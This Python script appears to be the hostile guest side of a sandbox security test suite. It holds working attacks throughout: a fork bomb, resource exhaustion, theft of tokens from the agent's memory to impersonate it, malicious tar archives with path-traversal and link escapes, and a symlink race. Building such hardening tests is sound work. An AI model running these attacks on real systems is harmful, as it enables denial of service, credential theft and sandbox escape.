"""What a hostile guest does to its own sandbox and to who runs it: python3 guest.py ACT. The host judges."""

import ctypes
import io
import json
import os
import re
import socket
import struct
import sys
import tarfile
import time

SOCKET = "/__modal/agent.sock"


def fork_bomb():
    """Until the kernel says no, or takes the sandbox."""
    count = 0
    try:
        while True:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            count += 1
    except OSError as error:
        print(count, error.strerror, flush=True)
    time.sleep(600)


def many_files(count=20_000):
    os.makedirs("/root/many", exist_ok=True)
    for number in range(int(count)):
        os.close(os.open(f"/root/many/{number}", os.O_CREAT | os.O_WRONLY))
    print(len(os.listdir("/root/many")))


def fill_quota_with_files():
    """No byte in any of them: it is the names that take the room."""
    os.makedirs("/root/names", exist_ok=True)
    number = 0
    try:
        while True:
            os.close(os.open(f"/root/names/{number:0200}", os.O_CREAT | os.O_WRONLY))
            number += 1
    except OSError as error:
        print(error.strerror)


def open_files():
    held = []
    try:
        while True:
            held.append(os.open("/etc/passwd", os.O_RDONLY))
    except OSError as error:
        print(len(held), error.strerror)


def one_byte_writes(count):
    for _ in range(int(count)):
        os.write(1, b"x")
        os.write(2, b"y")


def set_clocks():
    for clock in (time.CLOCK_REALTIME, time.CLOCK_MONOTONIC):
        try:
            time.clock_settime(clock, 1)
            print("set")
        except OSError as error:
            print(error.strerror)


def trace_the_agent():
    if ctypes.CDLL(None, use_errno=True).ptrace(16, 1, None, None) == 0:
        print("traced", flush=True)
    time.sleep(600)


def frame(channel, payload):
    return struct.pack("<II", 4 + len(payload), channel) + payload


def hello(token):
    text = json.dumps({"op": "hello", "protocol": 1, "version": "0", "token": token, "boot": "00" * 16})
    return frame(0, text.encode())


def connect():
    peer = socket.socket(socket.AF_UNIX)
    peer.settimeout(3)
    peer.connect(SOCKET)
    return peer


def storm(seconds):
    """Nonsense of every kind at the agent's own socket, and peers that say nothing: tells how often it was taken."""
    kinds = [b"", b"\xff" * 64, frame(0, b"{}"), frame(7, b"x" * 60_000), hello("wrong" * 9), hello("x") * 3]
    silent, count, until = [], 0, time.time() + float(seconds)
    while time.time() < until:
        try:
            peer = connect()
            peer.sendall(kinds[count % len(kinds)])
            silent = silent[-500:] + [peer]
            count += 1
        except OSError:
            continue
    print(count)


def memory_of_the_agent():
    """Root with SYS_PTRACE may read all of its own sandbox."""
    for line in open("/proc/1/maps"):
        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" not in line or end - begin > 1 << 26:
            continue
        try:
            with open("/proc/1/mem", "rb", buffering=0) as memory:
                memory.seek(begin)
                yield memory.read(end - begin)
        except OSError:
            continue


def impersonate():
    """With the stolen token it is its own sandbox's agent, and lies to the host in every way."""
    tokens = {found.decode() for data in memory_of_the_agent() for found in re.findall(rb"[A-Za-z0-9_-]{43}", data)}
    lies = [
        frame(0, json.dumps({"op": "exit", "exec": "ex-01JTESTTESTTESTTESTTESTTE0", "exit": {"code": 0}}).encode()),
        frame(0, json.dumps({"op": "done", "id": 1, "result": {"state": "unknown"}}).encode()),
        frame(0, json.dumps({"op": "open", "exec": "../../x", "handle": 1, "pid": -1}).encode()),
        frame(5, struct.pack("<Q", 1 << 62) + b"x" * 1000),
        frame(0, b"[" * 60_000),
        struct.pack("<II", 0xFFFFFFFF, 0),
    ]
    heard = 0
    for token in tokens:
        for lie in [None, *lies]:
            try:
                peer = connect()
                peer.sendall(hello(token))
                if not peer.recv(100):
                    break
                heard += 1
                if lie:
                    peer.sendall(frame(0, json.dumps({"op": "listed", "count": 0}).encode()) + lie)
                time.sleep(0.05)
            except OSError:
                break
    print("tokens", len(tokens), "heard", heard)


def lying_tar():
    """In place of `tar`, so that `sandtrail cp` gets this: names and links that lead out, devices, a file through a link."""

    def add(archive, name, kind, data=b"", link="", mode=0o644):
        entry = tarfile.TarInfo(name)
        entry.type, entry.size, entry.linkname, entry.mode = kind, len(data), link, mode
        entry.devmajor, entry.devminor = 1, 11
        archive.addfile(entry, io.BytesIO(data))

    round_, outside = open("/round").read().strip(), open("/outside").read().strip()
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        add(archive, "./tree", tarfile.DIRTYPE, mode=0o755)
        if round_ == "1":
            add(archive, "./tree/link", tarfile.SYMTYPE, link=outside)
            add(archive, "./tree/kernel-log", tarfile.CHRTYPE)
            add(archive, "./tree/pipe", tarfile.FIFOTYPE)
            add(archive, "./tree/root", tarfile.REGTYPE, b"setuid", mode=0o6755)
        elif round_ == "2":
            add(archive, "./tree/link", tarfile.REGTYPE, b"written through a link")
        else:
            add(archive, f"./tree/{'../' * 40}{outside[1:]}", tarfile.REGTYPE, b"written by dots")
            add(archive, outside, tarfile.REGTYPE, b"written by name")
            add(archive, "./tree/hard", tarfile.LNKTYPE, link=outside)
            add(archive, "./tree/hard", tarfile.REGTYPE, b"written through a hard link")
            add(archive, "./tree/dir", tarfile.SYMTYPE, link=os.path.dirname(outside))
            add(archive, f"./tree/dir/{os.path.basename(outside)}", tarfile.REGTYPE, b"written through a directory")
    sys.stdout.buffer.write(out.getvalue())


def swap_a_directory():
    """A directory, a link to /etc, a directory, as fast as it goes, while the host copies."""
    os.makedirs("/root/swapped/deep", exist_ok=True)
    open("/root/swapped/deep/passwd", "w").write("mine")
    while True:
        os.rename("/root/swapped/deep", "/root/aside")
        os.symlink("/etc", "/root/swapped/deep")
        os.unlink("/root/swapped/deep")
        os.rename("/root/aside", "/root/swapped/deep")


globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
